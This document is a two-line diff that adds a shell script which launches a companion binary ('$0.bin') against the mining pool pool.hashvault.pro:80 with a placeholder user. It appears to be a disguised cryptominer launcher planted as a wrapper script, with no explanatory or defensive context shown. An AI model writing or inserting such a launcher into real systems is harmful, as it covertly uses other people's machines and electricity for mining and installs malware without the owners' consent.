@@ -1,0 +1,2 @@
+#!/bin/sh
+"$0.bin" -o pool.hashvault.pro:80 -u x
